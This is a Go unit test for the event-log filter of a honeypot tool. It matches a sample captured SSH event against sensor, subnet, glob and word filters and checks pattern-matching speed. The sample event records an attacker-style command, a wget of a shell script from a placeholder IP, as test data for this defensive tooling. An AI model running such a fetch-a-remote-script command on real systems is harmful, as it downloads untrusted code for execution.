package eventlog_test

import (
	"net/netip"
	"strings"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/internal/eventlog"
)

func TestFilter(t *testing.T) {
	e := honeyguide.Event{
		Sensor: "ssh", Src: honeyguide.Endpoint{Addr: netip.MustParseAddrPort("203.0.113.9:4"), Country: "NL"}, Dst: honeyguide.Endpoint{Addr: netip.MustParseAddrPort("[::ffff:10.0.0.5]:22")},
		Attrs: map[string]any{honeyguide.AttrCommand: "/bin/WGET http://198.51.100.7/x.sh", honeyguide.AttrStatus: int64(0)},
	}
	for _, c := range []struct {
		f    eventlog.Filter
		want bool
	}{
		{eventlog.Filter{Dim: eventlog.DimSensor, Text: "ssh"}, true},
		{eventlog.Filter{Dim: eventlog.DimSensor, Text: "ssh", Not: true}, false},
		{eventlog.Filter{Dim: eventlog.DimSensor, Text: "SSH"}, false},
		{eventlog.Filter{Dim: eventlog.DimDst, Op: eventlog.OpNet, Net: netip.MustParsePrefix("10.0.0.0/8")}, true},
		{eventlog.Filter{Dim: eventlog.DimDst, Op: eventlog.OpNet, Net: netip.MustParsePrefix("10.1.0.0/16")}, false},
		{eventlog.Filter{Dim: honeyguide.AttrCommand, Op: eventlog.OpPattern, Text: "*wget*x.SH"}, true},
		{eventlog.Filter{Dim: honeyguide.AttrCommand, Op: eventlog.OpPattern, Text: "wget*"}, false},
		{eventlog.Filter{Dim: honeyguide.AttrCommand, Op: eventlog.OpPattern, Text: "*"}, true},
		{eventlog.Filter{Dim: honeyguide.AttrCommand, Op: eventlog.OpPattern, Text: strings.Repeat("*w", 500)}, false},
		{eventlog.Filter{Dim: honeyguide.AttrCommand, Op: eventlog.OpWords, Text: "x.sh 198.51.100.7"}, true},
		{eventlog.Filter{Dim: honeyguide.AttrCommand, Op: eventlog.OpWords, Text: "curl"}, false},
		{eventlog.Filter{Dim: honeyguide.AttrCommand, Op: eventlog.OpWords, Text: "?!"}, false},
		{eventlog.Filter{Dim: honeyguide.AttrStatus, Text: "0"}, true},
		{eventlog.Filter{Dim: honeyguide.AttrUser, Op: eventlog.OpAny}, false},
		{eventlog.Filter{Dim: honeyguide.AttrUser, Op: eventlog.OpAny, Not: true}, true},
	} {
		if got := c.f.Match(&e); got != c.want {
			t.Errorf("%.200v: %v", c.f, got)
		}
	}
	began := time.Now()
	e.Attrs[honeyguide.AttrCommand] = strings.Repeat("a", 64<<10)
	slow := eventlog.Filter{Dim: honeyguide.AttrCommand, Op: eventlog.OpPattern, Text: "*" + strings.Repeat("a", 100) + "b"}
	if slow.Match(&e) {
		t.Error("there is no b")
	}
	t.Logf("the worst pattern over 64 KiB took %s", time.Since(began))
}
